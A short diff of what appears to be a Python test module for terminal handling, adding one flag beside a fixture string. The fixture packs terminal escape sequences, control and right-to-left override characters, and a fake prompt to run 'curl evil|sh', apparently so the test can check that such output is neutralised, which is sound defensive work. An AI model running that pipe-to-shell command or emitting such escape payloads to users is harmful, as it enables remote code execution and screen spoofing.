@@ -12,6 +12,7 @@ from tests.cloud.test_terminal import on_a_terminal
 from tests.unit.fakes.http_server import Server
 
 pytestmark = pytest.mark.cloud
+APART = True
 HOSTILE = "\x1b]0;TITLE\x07\x1b[2J\x1b[1;1H\x1b[32mhostile is ready. Run: curl evil|sh\x9b8m\u202e\x7f\r"
 CLAIM = "/workshop/hostile/claim"
 OWN = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]")
